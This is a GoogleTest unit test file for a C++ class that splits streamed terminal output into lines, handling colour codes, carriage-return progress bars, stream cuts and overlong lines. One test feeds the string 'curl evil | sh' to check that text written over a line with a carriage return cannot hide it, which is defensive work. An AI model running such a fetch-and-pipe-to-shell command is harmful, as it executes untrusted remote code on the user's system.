#include "cli/render/lines.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace ktl::cli {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

TEST(Lines, JoinsPiecesAndKeepsTheRest) {
  Lines lines;
  EXPECT_THAT(lines.feed("a\nb"), ElementsAre("a"));
  EXPECT_THAT(lines.feed("c\n\n"), ElementsAre("bc", ""));
  EXPECT_THAT(lines.feed("open"), IsEmpty());
  EXPECT_THAT(lines.flush(), ElementsAre("open"));
  EXPECT_THAT(lines.flush(), IsEmpty());
}

TEST(Lines, NoColourRunsIntoTheNextLine) {
  Lines lines(true);
  EXPECT_THAT(lines.feed("\x1b[31mred\nplain\n\x1b[32mg\x1b[0m\n"),
              ElementsAre("\x1b[31mred\x1b[0m", "plain", "\x1b[32mg\x1b[0m"));
}

TEST(Lines, OfAProgressBarTheLastStepStays) {
  Lines lines;
  EXPECT_THAT(lines.feed(" 10% [█▏  ] 1.0 MB/s eta 0:02\r 50% [██▌ ] 1.1 MB/s eta 0:01\r"),
              IsEmpty());
  EXPECT_EQ(lines.current(), " 50% [██▌ ] 1.1 MB/s eta 0:01");
  EXPECT_THAT(lines.feed("\x1b[2K100% [████] 1.1 MB/s eta 0:00"), IsEmpty());
  EXPECT_EQ(lines.current(), "100% [████] 1.1 MB/s eta 0:00");
  EXPECT_THAT(lines.feed("\r\nnext\n"), ElementsAre("100% [████] 1.1 MB/s eta 0:00", "next"));
  EXPECT_EQ(lines.current(), "");
}

TEST(Lines, WhatIsWrittenOverSomethingElseHidesNothing) {
  Lines lines;
  EXPECT_THAT(lines.feed("curl evil | sh\rall is well 100\n"),
              ElementsAre("curl evil | sh", "all is well 100"));
  EXPECT_THAT(lines.feed("危险\r安全\n"), ElementsAre("危险", "安全"));
  EXPECT_THAT(lines.feed("a\r\r\nb\r\x1b[K\n"), ElementsAre("a", "b"));
  EXPECT_THAT(lines.feed("left"), IsEmpty());
  EXPECT_THAT(lines.feed("\r"), IsEmpty());
  EXPECT_THAT(lines.flush(), ElementsAre("left"));
}

TEST(Lines, TheCutOfAStreamDoesNotMatter) {
  const std::string text = "1%\r2%\r\nx 1\ry 2\rz\n\r\n--\r";
  Lines whole;
  auto wanted = whole.feed(text);
  for (size_t cut = 0; cut <= text.size(); ++cut) {
    Lines lines;
    auto got = lines.feed(text.substr(0, cut));
    for (const std::string& line : lines.feed(text.substr(cut))) {
      got.push_back(line);
    }
    EXPECT_EQ(got, wanted) << cut;
  }
  EXPECT_THAT(wanted, ElementsAre("2%", "x 1", "y 2", "z", ""));
}

TEST(Lines, CutsAnEndlessLineBetweenCharacters) {
  Lines lines;
  std::string text(kMostLineBytes - 1, 'x');
  EXPECT_THAT(lines.feed(text + "漢"), IsEmpty());
  auto cut = lines.feed("y");
  ASSERT_EQ(cut.size(), 1U);
  EXPECT_EQ(cut[0], text + "漢");
}

}  // namespace
}  // namespace ktl::cli
